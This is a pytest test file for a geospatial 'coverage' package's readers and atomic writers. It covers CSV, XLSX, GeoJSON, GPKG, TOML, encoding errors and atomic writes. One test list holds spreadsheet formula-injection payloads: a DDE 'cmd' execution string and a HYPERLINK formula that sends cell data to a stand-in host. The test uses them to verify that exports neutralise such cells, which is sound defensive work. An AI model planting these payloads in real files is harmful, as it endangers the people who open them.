"""Readers (CSV/XLSX/GeoJSON/GPKG) and atomic writers of coverage.io."""

from __future__ import annotations

import json

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from shapely.geometry import Point, box

from coverage.errors import InputError
from coverage.io import (
    atomic_path,
    cell_text,
    read_csv,
    read_table,
    read_vector,
    read_xlsx,
    write_csv,
    write_gpkg,
    write_text,
)

HEADER = ["id", "name", "category", "lon", "lat", "capacity"]
ROWS = [
    ["001", "回龙观养老驿站", "elderly_station", "116.3451", "40.0702", "30"],
    ["002", "龙泽菜市场", "wet_market", "116.355", "40.07", ""],
    ["010", "Café, \"quoted\"", "wet_market", "116.3587654321", "40.0655", "12.5"],
]


def _csv_text() -> str:
    out = pd.DataFrame(ROWS, columns=HEADER)
    return out.to_csv(index=False, lineterminator="\n")


def test_bom_csv_plain_csv_and_xlsx_read_identically(tmp_path):
    bom = tmp_path / "bom.csv"
    bom.write_bytes(_csv_text().encode("utf-8-sig"))
    plain = tmp_path / "plain.csv"
    plain.write_text(_csv_text(), encoding="utf-8")
    xlsx = tmp_path / "f.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "设施"
    ws.append(HEADER)
    for r in ROWS:
        # ids typed as text (keep zeros), coordinates and capacity as real numbers
        cap = float(r[5]) if r[5] else None
        ws.append([r[0], r[1], r[2], float(r[3]), float(r[4]), cap])
    wb.save(xlsx)

    a = read_table(bom)
    b = read_table(plain)
    c = read_table(xlsx)
    d = read_xlsx(xlsx, sheet="设施")
    assert list(a.columns) == HEADER  # no BOM glued to the first column name
    pd.testing.assert_frame_equal(a, b)
    # XLSX numeric cells stay numbers; as text they read like the CSV
    assert c.loc[0, "lon"] == 116.3451 and c.loc[2, "capacity"] == 12.5
    pd.testing.assert_frame_equal(a, c.map(cell_text).astype(object))
    pd.testing.assert_frame_equal(a, d.map(cell_text).astype(object))
    assert a["id"].tolist() == ["001", "002", "010"]  # leading zeros kept
    assert a.loc[2, "name"] == 'Café, "quoted"'
    assert a.loc[1, "capacity"] == ""


def test_xlsx_unknown_sheet_lists_sheets(tmp_path):
    xlsx = tmp_path / "f.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "Sheet1"
    wb.active.append(["id"])
    wb.create_sheet("二号")
    wb.save(xlsx)
    with pytest.raises(InputError) as ei:
        read_xlsx(xlsx, sheet="nope")
    p = ei.value.problems[0]
    assert p.field == "sheet" and "nope" in p.problem
    assert "Sheet1" in p.fix and "二号" in p.fix


def test_gbk_csv_gives_clear_error(tmp_path):
    gbk = tmp_path / "facilities.csv"
    gbk.write_bytes(_csv_text().encode("gbk"))
    with pytest.raises(InputError) as ei:
        read_csv(gbk, file="facilities.csv")
    (p,) = ei.value.problems
    assert p.file == "facilities.csv"
    assert "GBK" in p.problem
    assert "CSV UTF-8" in p.fix and "UTF-8" in p.fix
    assert p.row == 1  # the first Chinese text is in data row 1
    assert "facilities.csv, row 1" in str(ei.value)


def test_csv_in_unknown_encoding_still_asks_for_utf8(tmp_path):
    f = tmp_path / "x.csv"
    f.write_bytes(b"id,name\n1,\xff\xfe\xff\n")
    with pytest.raises(InputError) as ei:
        read_csv(f)
    assert "UTF-8" in ei.value.problems[0].fix


def test_missing_and_unsupported_files(tmp_path):
    with pytest.raises(InputError, match="file not found"):
        read_table(tmp_path / "none.csv")
    (tmp_path / "a.xls").write_bytes(b"x")
    with pytest.raises(InputError, match=r"\.xls"):
        read_table(tmp_path / "a.xls")
    (tmp_path / "a.dbf").write_bytes(b"x")
    with pytest.raises(InputError, match="unsupported file type"):
        read_table(tmp_path / "a.dbf")


def _gdf(crs="EPSG:4326"):
    return gpd.GeoDataFrame({"id": ["a", "b"], "name": ["甲", "乙"]},
                            geometry=[Point(116.35, 40.07), Point(116.36, 40.08)], crs=crs)


def test_gpkg_without_crs_is_refused(tmp_path):
    f = tmp_path / "nocrs.gpkg"
    with pytest.warns(UserWarning):  # pyogrio warns that it writes no CRS
        _gdf(None).to_file(f, layer="pts", engine="pyogrio")
    with pytest.raises(InputError) as ei:
        read_table(f)
    (p,) = ei.value.problems
    assert "no coordinate reference system" in p.problem
    assert "EPSG:4326" in p.fix


def test_gpkg_layers(tmp_path):
    f = tmp_path / "two.gpkg"
    write_gpkg(f, {"a": _gdf(), "b": _gdf().to_crs("EPSG:32650")})
    with pytest.raises(InputError) as ei:
        read_vector(f)
    assert ei.value.problems[0].field == "layer" and "a, b" in ei.value.problems[0].fix
    with pytest.raises(InputError, match="no layer named 'c'"):
        read_vector(f, layer="c")
    got = read_vector(f, layer="b")
    assert got.crs.to_epsg() == 32650
    assert got["name"].tolist() == ["甲", "乙"]
    # one-layer files need no layer name
    g = tmp_path / "one.gpkg"
    write_gpkg(g, {"only": _gdf()})
    assert len(read_table(g)) == 2


def test_geojson_is_wgs84_and_projected_coordinates_are_refused(tmp_path):
    f = tmp_path / "p.geojson"
    _gdf().to_file(f, driver="GeoJSON", engine="pyogrio")
    got = read_table(f)
    assert got.crs.to_epsg() == 4326
    assert got.geometry.x.tolist() == pytest.approx([116.35, 116.36])
    bad = tmp_path / "metres.geojson"
    fc = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"id": "1"},
         "geometry": {"type": "Point", "coordinates": [440000.0, 4435000.0]}}]}
    bad.write_text(json.dumps(fc), encoding="utf-8")
    with pytest.raises(InputError, match="not longitude/latitude degrees"):
        read_table(bad)


def test_atomic_path_replaces_only_on_success(tmp_path):
    target = tmp_path / "out" / "result.txt"
    write_text(target, "old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half-written", encoding="utf-8")
        assert tmp.parent == target.parent and tmp != target
        raise RuntimeError("crash mid-write")
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in target.parent.iterdir()) == ["result.txt"]
    with atomic_path(target) as tmp:
        tmp.write_text("new", encoding="utf-8")
    assert target.read_text(encoding="utf-8") == "new"
    assert sorted(p.name for p in target.parent.iterdir()) == ["result.txt"]


def test_write_csv_has_bom_and_round_trips(tmp_path):
    df = pd.DataFrame({"unit": ["回龙观", "天通苑北"], "coverage_pct": [95.5, 80.25]})
    f = write_csv(df, tmp_path / "summary.csv")
    raw = f.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "回龙观".encode() in raw
    back = read_csv(f)
    assert back["unit"].tolist() == ["回龙观", "天通苑北"]
    assert back["coverage_pct"].tolist() == ["95.5", "80.25"]
    # geometry is dropped from CSVs
    g = gpd.GeoDataFrame(df, geometry=[Point(0, 0), Point(1, 1)], crs="EPSG:32650")
    assert list(read_csv(write_csv(g, tmp_path / "g.csv")).columns) == ["unit", "coverage_pct"]


def test_write_gpkg_is_all_or_nothing(tmp_path):
    f = tmp_path / "coverage.gpkg"
    poly = gpd.GeoDataFrame({"name": ["u1"], "ok": [True]},
                            geometry=[box(0, 0, 100, 100)], crs="EPSG:32650")
    empty = poly.iloc[0:0]
    write_gpkg(f, {"boundaries": poly, "proposed": empty})
    assert read_vector(f, layer="proposed").empty
    back = read_vector(f, layer="boundaries")
    assert back["ok"].tolist() == [True] and back.geometry.area.tolist() == [10000.0]
    before = f.read_bytes()
    with pytest.raises(ValueError, match="no CRS"):
        write_gpkg(f, {"a": poly, "b": gpd.GeoDataFrame(geometry=[Point(0, 0)])})

    class Boom(gpd.GeoDataFrame):
        def to_file(self, *a, **k):
            raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_gpkg(f, {"a": poly, "b": Boom(poly)})
    assert f.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["coverage.gpkg"]


def test_toml_value_round_trips_through_tomllib():
    import tomllib

    from coverage.io import toml_value

    value = {"name": "回天 \"北\"", "speed": 0.8333333333, "n": 6, "on": True,
             "osm": {"amenity": ["pharmacy"], "养老": "yes"}, "xs": [1.5, 2]}
    assert tomllib.loads(f"v = {toml_value(value)}")["v"] == value
    assert tomllib.loads(f"v = {toml_value(0.8333333333, float_digits=6)}")["v"] == 0.833333
    with pytest.raises(TypeError):
        toml_value(object())


# --- safety of what circle15 writes ---------------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2",
            "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1",
            "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_prefixes_are_neutralised_and_stay_readable(text):
    from coverage.io import formula_safe

    safe = formula_safe(text)
    assert safe == "'" + text  # the original is the text after the apostrophe
    assert formula_safe(safe) == safe  # idempotent: an apostrophe starts no formula


@pytest.mark.parametrize("text", ["回龙观", "-3.5", "+86", "1e5", "-", "a=b", "", "'=x"])
def test_plain_text_and_numbers_are_left_alone(text):
    from coverage.io import formula_safe

    expected = "'-" if text == "-" else text
    assert formula_safe(text) == expected


def test_every_csv_cell_and_header_is_formula_safe(tmp_path):
    import csv

    df = pd.DataFrame({"name": FORMULAS, "walk_min": [-1.5] * len(FORMULAS),
                       "=evil": ["x"] * len(FORMULAS)})
    f = write_csv(df, tmp_path / "sites.csv")
    with open(f, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["name", "walk_min", "'=evil"]
    # a carriage return in a cell is written as a line break ("\n"), which CSV quotes
    assert [r[0] for r in rows[1:]] == ["'" + t.replace("\r", "\n") for t in FORMULAS]
    assert all(r[1] == "-1.5" for r in rows[1:])  # numbers stay numbers
    for r in rows:  # no cell of the file starts a formula
        assert all(c[:1] not in "=+@\t\r" or c == "" for c in r)
    # an input copy circle15 reads back may opt out
    raw = write_csv(df, tmp_path / "raw.csv", protect_formulas=False)
    assert read_csv(raw)["name"].tolist()[0] == FORMULAS[0]


def test_write_gpkg_same_layers_same_bytes(tmp_path, monkeypatch):
    import sqlite3

    poly = gpd.GeoDataFrame({"name": ["u1"]}, geometry=[box(0, 0, 100, 100)], crs="EPSG:32650")
    a = write_gpkg(tmp_path / "a.gpkg", {"boundaries": poly, "b": poly}).read_bytes()
    import time

    time.sleep(1.1)  # GDAL's default last_change is the current time, to the millisecond
    b = write_gpkg(tmp_path / "b.gpkg", {"boundaries": poly, "b": poly}).read_bytes()
    assert a == b
    con = sqlite3.connect(tmp_path / "a.gpkg")
    try:
        assert con.execute("pragma user_version").fetchone()[0] == 10200  # GPKG 1.2
        dates = {r[0] for r in con.execute("select last_change from gpkg_contents")}
    finally:
        con.close()
    assert dates == {"1970-01-01T00:00:00.000Z"}
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    write_gpkg(tmp_path / "c.gpkg", {"boundaries": poly})
    con = sqlite3.connect(tmp_path / "c.gpkg")
    try:
        assert con.execute("select last_change from gpkg_contents").fetchone()[0] == \
            "2023-11-14T22:13:20.000Z"
    finally:
        con.close()


def test_remove_stale_temp_only_touches_temporary_names(tmp_path):
    from coverage.io import remove_stale_temp, temp_path

    keep = ["compounds.csv", ".hidden", "a.tmp", ".notes.txt"]
    for name in keep:
        (tmp_path / name).write_text("x", encoding="utf-8")
    tmp = temp_path(tmp_path / "coverage.gpkg")
    stale = [tmp, tmp.with_name(tmp.name + "-journal"), temp_path(tmp_path / "map.html")]
    for p in stale:
        p.write_text("half", encoding="utf-8")
    folder = temp_path(tmp_path / "abc")  # a temporary folder (e.g. a batch cache entry)
    folder.mkdir()
    (folder / "summary.csv").write_text("x", encoding="utf-8")
    gone = remove_stale_temp(tmp_path, stem="map")
    assert gone == [stale[2]]
    gone = remove_stale_temp(tmp_path)
    assert sorted(gone) == sorted([*stale[:2], folder])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(keep)


def test_read_toml_accepts_bom_and_names_bad_files(tmp_path):
    from coverage.errors import ConfigError
    from coverage.io import read_toml

    f = tmp_path / "area.toml"
    f.write_bytes("\ufeff[area]\nname = \"回天\"\n".encode())
    assert read_toml(f) == {"area": {"name": "回天"}}
    with pytest.raises(ConfigError, match="folder, not a file"):
        read_toml(tmp_path)
    with pytest.raises(ConfigError, match="not found"):
        read_toml(tmp_path / "nope.toml")
    f.write_bytes(b"[area\n")
    with pytest.raises(ConfigError, match="not valid TOML"):
        read_toml(f)
    f.write_bytes("name = '回天'".encode("gbk"))
    with pytest.raises(ConfigError, match="not UTF-8"):
        read_toml(f)


def test_sha256_file(tmp_path):
    import hashlib

    from coverage.io import sha256_file

    f = tmp_path / "x.bin"
    f.write_bytes(b"\x00" * 3_000_000)
    assert sha256_file(f) == hashlib.sha256(b"\x00" * 3_000_000).hexdigest()


def test_atomic_folder_replaces_whole_or_not_at_all(tmp_path):
    from coverage.io import atomic_folder

    dest = tmp_path / "hlg"
    with atomic_folder(dest) as tmp:
        (tmp / "area.toml").write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_folder(dest) as tmp:
        (tmp / "area.toml").write_text("half", encoding="utf-8")
        raise RuntimeError("fetch failed")
    assert (dest / "area.toml").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hlg"]
    stale = tmp_path / ".hlg.0123abcd.tmp"  # what a killed fetch leaves
    stale.mkdir()
    other = tmp_path / ".hlg.v2.0123abcd.tmp"  # another folder's: not ours to remove
    other.mkdir()
    with atomic_folder(dest) as tmp:
        (tmp / "area.toml").write_text("new", encoding="utf-8")
    assert sorted(p.name for p in dest.iterdir()) == ["area.toml"]
    assert (dest / "area.toml").read_text(encoding="utf-8") == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == [other.name, "hlg"]


# --- the readers on what planners' files really hold (config engineer) ------------------------


def test_csv_row_with_an_unquoted_comma_is_one_error_not_a_shifted_table(tmp_path):
    f = tmp_path / "f.csv"
    f.write_text("id,name,category,lon,lat\n1,A,x,116,2678,40.07\n2,B,x,116.27,40.07\n"
                 "3,C,x,116.27,40.07,\n", encoding="utf-8")  # row 3: a trailing empty cell
    with pytest.raises(InputError) as ei:
        read_csv(f, file="f.csv")
    (p,) = ei.value.problems
    assert p.row == 1 and p.rows == (1,)
    assert "6 values but the header names 5 columns (id, name, category, lon, lat)" in p.problem
    assert "116.2678" in p.fix
    f.write_text("id,name\n1,a,b\n2,c\n3,d,e\n", encoding="utf-8")
    with pytest.raises(InputError) as ei:
        read_csv(f, file="f.csv")
    assert str(ei.value).count("rows 1, 3") == 1


def test_csv_blank_lines_quotes_and_trailing_empty_cells(tmp_path):
    f = tmp_path / "f.csv"
    f.write_text('id,name\n\n1,"a, b"\n2,c,\n', encoding="utf-8")
    df = read_csv(f)
    assert df.to_dict("list") == {"id": ["1", "2"], "name": ["a, b", "c"]}


def test_control_characters_are_removed_with_a_warning_naming_rows(tmp_path, caplog):
    f = tmp_path / "f.csv"
    f.write_text('id,name\n1,"两行\n名字"\n2,ok\n3,bell\x07\n', encoding="utf-8")
    with caplog.at_level("WARNING", logger="coverage.io"):
        df = read_csv(f, file="f.csv")
    assert df["name"].tolist() == ["两行 名字", "ok", "bell"]
    (msg,) = [r.getMessage() for r in caplog.records]
    assert msg.startswith("f.csv, rows 1, 3, field 'name': control characters")


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_control_characters_in_vector_layers_are_removed_too(tmp_path, caplog, suffix):
    """Text columns of GeoJSON/GPKG layers (pandas 3 reads them as the ``str`` dtype, not
    ``object``) are cleaned like CSV cells: a bell or an escape in a compound name would
    otherwise pass validate and crash the run writing report.xlsx."""
    f = tmp_path / f"c{suffix}"
    gpd.GeoDataFrame({"id": ["1", "2"], "name": ["小区\x07\x1b[31m红", "ok"], "n": [1, 2]},
                     geometry=[Point(116.35, 40.07), Point(116.36, 40.08)],
                     crs="EPSG:4326").to_file(f, engine="pyogrio")
    with caplog.at_level("WARNING", logger="coverage.io"):
        got = read_vector(f, file=f.name)
    assert got["name"].tolist() == ["小区[31m红", "ok"]
    assert got["n"].tolist() == [1, 2]
    (msg,) = [r.getMessage() for r in caplog.records]
    assert msg.startswith(f"{f.name}, row 1, field 'name': control characters")


def test_xlsx_first_visible_sheet_and_a_warning_for_several(tmp_path, caplog):
    xlsx = tmp_path / "f.xlsx"
    wb = openpyxl.Workbook()
    old = wb.active
    old.title = "旧"
    old.append(["id", "name"])
    old.append(["old", "stale"])
    old.sheet_state = "hidden"
    new = wb.create_sheet("新")
    new.append(["id", "name", "capacity"])
    new.append(["001", "a\nb", 12.5])
    wb.create_sheet("备注").append(["note"])
    wb.save(xlsx)
    with caplog.at_level("WARNING", logger="coverage.io"):
        df = read_xlsx(xlsx, file="f.xlsx")
    assert df.to_dict("list") == {"id": ["001"], "name": ["a b"], "capacity": [12.5]}
    msgs = [r.getMessage() for r in caplog.records]
    assert any("f.xlsx: the workbook has 3 sheets (旧, 新, 备注; hidden: 旧); reading the first "
               "visible one, '新'" in m for m in msgs), msgs
    assert read_xlsx(xlsx, sheet="旧")["id"].tolist() == ["old"]  # named: read as asked


def test_a_folder_is_not_a_file(tmp_path):
    for name in ("facilities.csv", "b.geojson", "c.xlsx"):
        (tmp_path / name).mkdir()
        with pytest.raises(InputError, match="this is a folder, not a file"):
            read_table(tmp_path / name)
